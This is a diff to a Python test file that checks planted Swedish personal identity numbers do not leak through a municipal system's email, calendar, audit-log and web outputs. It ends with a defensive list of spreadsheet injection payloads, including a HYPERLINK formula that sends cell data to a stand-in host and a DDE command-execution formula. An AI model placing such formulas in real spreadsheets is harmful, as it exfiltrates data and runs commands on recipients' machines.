@@ -5,7 +5,8 @@ case references, then run through the whole chain as a municipality would: impor
 pdftotext), the committee's pack -> a calendar -> the audit log -> the web snapshot.
 
 Every outbound or stored channel is searched three ways: the scanner, each planted form as
-written, and each number's ten digits with every space and dash removed. The count must be 0.
+written, and each number's ten digits with the spaces and dashes between digits removed. The count must
+be 0.
 The facts tables themselves (the registers' own data, such as a reason or a note) and the
 engine's working table of fact context (``deadlines``) are the source, not a channel: they
 are not served, sent or logged.
@@ -40,8 +41,11 @@ SEED = 8
 AS_OF = "2024-12-31"
 HEADERS = [*SV_HEADERS, "Orsak", "Anteckning"]
 OFFICERS = 40
-_SQUASH = re.compile("[" + re.escape("".join(DASHES + SPACES) + "+\u00ad\u2060\ufeff") + "]")
-_RUN = re.compile(r"\d{10,}")
+# spaces and dashes between two digits are dropped; then a run of 10+ digits that does not
+# touch a letter (a hash, a run id) is compared, window by window, with the planted numbers
+_SQUASH = re.compile(
+    "(?<=\\d)[" + re.escape("".join(DASHES + SPACES) + "+\u00ad\u2060\ufeff") + "]+(?=\\d)")
+_RUN = re.compile(r"(?<![0-9A-Za-z])\d{10,}(?![0-9A-Za-z])")
 
 
 class Leaks:
@@ -51,15 +55,24 @@ class Leaks:
         self.written = {f for f, _ in forms}
         self.tens = {t for _, t in forms}
         self.by_channel: dict[str, int] = {}
+        self.samples: list[str] = []
 
-    def count(self, text: str) -> int:
-        found = len(find_personnummer(text)) + sum(1 for f in self.written if f in text)
+    def hits(self, text: str) -> list[str]:
+        """What ``text`` carries: found by the scanner, as written, or by its ten digits."""
+        found = find_personnummer(text) + [f for f in self.written if f in text]
         for run in _RUN.findall(_SQUASH.sub("", text)):
-            found += sum(1 for i in range(len(run) - 9) if run[i:i + 10] in self.tens)
+            found += [run[i:i + 10] for i in range(len(run) - 9) if run[i:i + 10] in self.tens]
         return found
 
+    def count(self, text: str) -> int:
+        return len(self.hits(text))
+
     def check(self, channel: str, text: str) -> None:
-        self.by_channel[channel] = self.by_channel.get(channel, 0) + self.count(text)
+        hits = self.hits(text)
+        self.by_channel[channel] = self.by_channel.get(channel, 0) + len(hits)
+        for h in hits[:2]:
+            at = text.find(h) if h in text else -1
+            self.samples.append(f"{channel}: {h!r} in {text[max(0, at - 80):at + 40]!r}")
 
 
 def _phrase(rng: random.Random, forms: list[tuple[str, str]], n: int) -> str:
@@ -202,7 +215,7 @@ def test_no_fuzzed_personnummer_leaves_through_any_channel(
     report("personnummer i utgående och lagrade kanaler", len(forms), total,
            channels=len(leaks.by_channel), messages=len(smtp_server.received),
            rejected_rows=len(bad_refs) + len(bad_officers))
-    assert total == 0, {k: v for k, v in leaks.by_channel.items() if v}
+    assert total == 0, ({k: v for k, v in leaks.by_channel.items() if v}, leaks.samples[:6])
 
 
 PAYLOADS = ['=HYPERLINK("http://x.example/?q="&A1,"klicka")', "=cmd|' /C calc'!A0", "+1+1",
